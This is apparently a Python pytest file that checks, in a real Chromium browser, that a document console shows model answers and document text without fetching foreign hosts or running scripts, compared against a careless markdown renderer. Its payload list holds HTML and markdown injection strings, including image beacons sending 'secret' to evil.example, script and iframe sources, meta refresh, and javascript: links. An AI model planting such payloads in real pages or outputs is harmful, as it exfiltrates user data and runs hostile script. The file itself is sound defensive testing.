"""What a model or a document says, shown by the console in a real browser: no foreign request, no script, even without the content
security policy. The same texts put into a page as they are do both, so this can fail."""

from __future__ import annotations

import asyncio
import json
import shutil
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from html import escape
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import msgspec
import pytest

from bascule.testing.server import ADMIN, CHUNK, FakeApp, an_answer, serving

CHROMIUM = shutil.which("chromium")
SAMPLE = Path(__file__).parents[3] / "shared/data/security/output_exfiltration.jsonl"
OWN = [
    '<img src="http://evil.example/a.png" onerror="alert(1)">',
    "![x](https://evil.example/b.png?d=secret)",
    "![x][1]\n\n[1]: https://evil.example/c.png?d=secret",
    "[1](https://evil.example/d) <https://evil.example/e> https://evil.example/f",
    '<script src="https://evil.example/g.js"></script><iframe src="https://evil.example/h"></iframe>',
    '<style>@import "https://evil.example/i.css";</style><link rel="stylesheet" href="https://evil.example/j.css">',
    '<svg><image href="https://evil.example/k"/></svg><video poster="https://evil.example/l" autoplay></video>',
    '| a |\n|---|\n| ![x](//evil.example/m) |\n\n# <b onclick="alert(1)">x</b>\n\n```html"><img src=//evil.example/n>\ny\n```',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/o"><base href="https://evil.example/">',
    "[x](javascript:alert(1)) [y](data:text/html,<script>alert(1)</script>)",
    "<a ping='https://evil.example/p' href=#>z</a>",
]
TAGS = {"article", "header", "footer", "button", "h2", "h3", "h4", "span", "div", "p", "br", "strong", "em", "code"} | {
    *("pre", "blockquote", "ul", "ol", "li", "hr", "table", "thead", "tbody", "tr", "th", "td")
}

# Foreign names lead nowhere, whatever is asked of them.
ARGS = ["--no-sandbox", "--disable-gpu", "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"]
pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="no chromium here: what answers show is NOT tested in a browser"),
]


def texts() -> list[str]:
    if not SAMPLE.exists():
        return OWN
    return OWN + [json.loads(line)["text"] for line in SAMPLE.read_text(encoding="utf-8").splitlines()]


class Seen:
    """Requests to other hosts, and scripts that ran: the payloads call `alert`, which says so on the browser's console."""

    def __init__(self, own: str) -> None:
        self.own = own
        self.foreign: list[str] = []
        self.scripts = 0

    def request(self, asked: Any) -> None:
        if asked.url.startswith(("http:", "https:", "ws:", "wss:", "ftp:")) and urlsplit(asked.url).netloc != self.own:
            self.foreign.append(asked.url)

    def console(self, message: Any) -> None:
        self.scripts += message.text == "a script ran"


@asynccontextmanager
async def browser(own: str) -> AsyncIterator[tuple[Any, Seen]]:
    """A context without content security policy, in which foreign addresses are counted and never reached."""
    from playwright.async_api import async_playwright

    async with async_playwright() as playwright:
        chromium = await playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        context = await chromium.new_context(bypass_csp=True, viewport={"width": 320, "height": 240})
        seen = Seen(own)
        context.on("request", seen.request)
        context.on("console", seen.console)
        await context.add_init_script(
            "window.alert = window.confirm = window.prompt = () => console.debug('a script ran')"
        )
        yield context, seen
        await chromium.close()


class Says:
    """Questions and a catalogue that say the text whose number is asked for, in every place the console shows."""

    def __init__(self, catalogue: Any, said: list[str]) -> None:
        self._catalogue = catalogue
        self._said = said

    def __getattr__(self, name: str) -> Any:
        return getattr(self._catalogue, name)

    async def answer(self, principal: Any, question: str, **given: Any) -> Any:
        text, model = self._said[int(question)], given["collections"][0]
        found = an_answer()
        cited = msgspec.structs.replace(found.citations[0], title=text[:200], quote=text, heading_path=(text[:80],))
        return msgspec.structs.replace(found, answer=f"{text} [1]", citations=(cited,), model=model)

    async def documents(self, principal: Any, collection: str | None, *given: Any) -> list[Any]:
        first = int(collection or 0)
        found = (await self._catalogue.documents(principal, None, *given))[0]
        return [
            msgspec.structs.replace(found, title=text, name=text, reason=text)
            for text in self._said[first : first + LISTED]
        ]

    async def passage(self, principal: Any, chunk_id: str) -> Any:
        text = self._said[int(chunk_id)]
        return msgspec.structs.replace(await self._catalogue.passage(principal, CHUNK), text=text, title=text)


@pytest.mark.skipif(not SAMPLE.exists(), reason="no data folder: the sample is NOT shown in a browser")
def test_the_sample_is_among_what_is_shown():
    assert len(texts()) > len(OWN) + 50


async def test_S2_nothing_that_is_shown_asks_another_host_for_anything_or_runs():
    said, app = texts(), FakeApp()
    app.catalogue = app.questions = Says(app.catalogue, said)
    async with serving(app) as (url, _), browser(urlsplit(url).netloc) as (context, seen):
        page = await context.new_page()
        await page.goto(url)
        await page.get_by_label("API key").fill(ADMIN)
        await page.keyboard.press("Enter")
        await page.wait_for_selector("#question")
        shown = await page.evaluate(SHOW, [len(said), LISTED])
        assert len(shown) == 3 * len(said) + -(-len(said) // LISTED)
        for path, tags in shown:
            if path == "/console/answer":
                assert "article" in tags and set(tags) <= TAGS, tags
            else:
                assert {"table", "h2"} & set(tags) and not NEVER & set(tags), (path, tags)
        await page.goto(url)  # whatever was begun in the background has had its turn
        assert seen.foreign == [] and seen.scripts == 0


NEVER = {"a", "img", "script", "style", "link", "iframe", "object", "svg", "form", "base", "meta", "video"}
NEVER = {"a", "img", "script", "style", "link", "iframe", "object", "svg", "form", "base", "meta", "video"}
LISTED = 20
SHOW = """async ([count, LISTED]) => {
  const place = document.getElementById("answer"), shown = [];
  const show = async (path, given) => {
    const reply = await fetch(path, given);
    if (!reply.ok) throw new Error(path + " " + reply.status);
    htmx.swap(place, await reply.text(), {swapStyle: "innerHTML", swapDelay: 0, settleDelay: 0});
    await new Promise(done => setTimeout(done));
    // The page's own link to why an answer came out so; no text of a document or model makes one of this form.
    const own = each => each.localName === "a" && /^\\/console\\/answers\\/[-0-9a-z]+$/.test(each.getAttribute("href"));
    shown.push([path, [...place.querySelectorAll("*")].filter(each => !own(each)).map(each => each.localName)]);
  };
  const csrf = document.querySelector("[name=csrf]").value;
  for (let number = 0; number < count; number++) {
    for (const model of ["extractive", "some-model"])
      await show("/console/answer", {method: "POST", body: new URLSearchParams({question: number, collection: model, csrf})});
    if (number % LISTED === 0) await show("/console/documents?collection=" + number);
    await show("/console/passage/" + number + "?start=0&end=3");
  }
  return shown;
}"""


async def test_the_same_texts_as_they_are_do_ask_and_do_run():
    from markdown_it import MarkdownIt

    careless = MarkdownIt("commonmark", {"html": True}).enable("table")
    frames = "".join(f'<iframe srcdoc="{escape(careless.render(text))}"></iframe>' for text in texts())

    async def raw(route: Any) -> None:
        await route.fulfill(body=f"<!doctype html><body>{frames}", content_type="text/html")

    async with browser("raw.example") as (context, seen):
        await context.route("http://raw.example/", raw)
        page = await context.new_page()
        await page.goto("http://raw.example/", wait_until="commit")
        async with asyncio.timeout(20):
            while len(set(seen.foreign)) < 10 or not seen.scripts:
                await asyncio.sleep(0.02)
